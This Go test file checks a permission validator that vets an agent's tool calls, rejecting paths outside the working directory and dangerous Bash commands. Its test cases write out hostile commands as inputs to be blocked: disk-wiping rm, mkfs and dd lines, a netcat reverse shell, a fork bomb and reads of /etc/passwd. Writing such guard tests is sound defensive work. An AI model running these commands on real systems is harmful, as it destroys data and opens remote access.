package permission

import (
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidator_Validate(t *testing.T) {
	root := t.TempDir()
	work := filepath.Join(root, "project")
	shared := filepath.Join(root, "shared")

	v := NewValidator(func(o *ValidatorOptions) {
		o.DisallowedTools = []string{"WebFetch"}
		o.ApprovedDirectory = shared
	})

	tests := []struct {
		name   string
		tool   string
		input  map[string]any
		reason string
	}{
		{name: "plain tool", tool: "Grep", input: map[string]any{"pattern": "x"}},
		{name: "disallowed tool", tool: "WebFetch", input: map[string]any{"url": "https://example.com"}, reason: "tool is disallowed"},
		{name: "relative read", tool: "Read", input: map[string]any{"file_path": "main.go"}},
		{name: "absolute write inside", tool: "Write", input: map[string]any{"file_path": filepath.Join(work, "a", "b.go")}},
		{name: "edit in approved directory", tool: "Edit", input: map[string]any{"path": filepath.Join(shared, "notes.md")}},
		{name: "notebook inside", tool: "NotebookEdit", input: map[string]any{"notebook_path": "nb.ipynb"}},
		{name: "traversal", tool: "Read", input: map[string]any{"file_path": "../../etc/passwd"}, reason: "path outside working directory"},
		{name: "absolute outside", tool: "Write", input: map[string]any{"file_path": "/etc/hosts"}, reason: "path outside working directory"},
		{name: "sibling prefix", tool: "Edit", input: map[string]any{"file_path": work + "-other/x"}, reason: "path outside working directory"},
		{name: "missing path", tool: "MultiEdit", input: map[string]any{}, reason: "file path required"},
		{name: "safe command", tool: "Bash", input: map[string]any{"command": "go test ./..."}},
		{name: "rm inside tree", tool: "Bash", input: map[string]any{"command": "rm -rf build"}},
		{name: "sudo", tool: "Bash", input: map[string]any{"command": "SUDO apt install x"}, reason: "dangerous command pattern: sudo"},
		{name: "rm root", tool: "Bash", input: map[string]any{"command": "rm -rf /"}, reason: "dangerous command pattern: rm -rf /"},
		{name: "mkfs", tool: "Bash", input: map[string]any{"command": "mkfs.ext4 /dev/sda1"}, reason: "dangerous command pattern: mkfs"},
		{name: "dd", tool: "Bash", input: map[string]any{"command": "dd if=/dev/zero of=/dev/sda"}, reason: "dangerous command pattern: dd"},
		{name: "chmod 777", tool: "Bash", input: map[string]any{"command": "chmod 777 ."}, reason: "dangerous command pattern: chmod 777"},
		{name: "reverse shell", tool: "Bash", input: map[string]any{"command": "nc -e /bin/sh host 4444"}, reason: "dangerous command pattern: nc (reverse shell)"},
		{name: "fork bomb", tool: "Bash", input: map[string]any{"command": ":(){ :|:& };:"}, reason: "dangerous command pattern: fork bomb"},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := v.Validate(tc.tool, tc.input, work)
			if tc.reason == "" {
				assert.NoError(t, err)
				return
			}

			var violation *Violation
			require.ErrorAs(t, err, &violation)
			assert.Equal(t, tc.tool, violation.Tool)
			assert.Contains(t, violation.Reason, tc.reason)
		})
	}
}

func TestValidator_WithoutApprovedDirectory(t *testing.T) {
	root := t.TempDir()
	v := NewValidator()

	assert.NoError(t, v.Validate("Read", map[string]any{"file_path": filepath.Join(root, "x")}, root))
	assert.Error(t, v.Validate("Read", map[string]any{"file_path": filepath.Join(filepath.Dir(root), "x")}, root))
}

func TestWithin(t *testing.T) {
	assert.True(t, Within("/srv/app", "/srv/app"))
	assert.True(t, Within("/srv/app", "/srv/app/..x"))
	assert.True(t, Within("/srv/app", "/srv/app/sub/file"))
	assert.False(t, Within("/srv/app", "/srv"))
	assert.False(t, Within("/srv/app", "/srv/app2"))
	assert.False(t, Within("/srv/app", "/etc/passwd"))
}
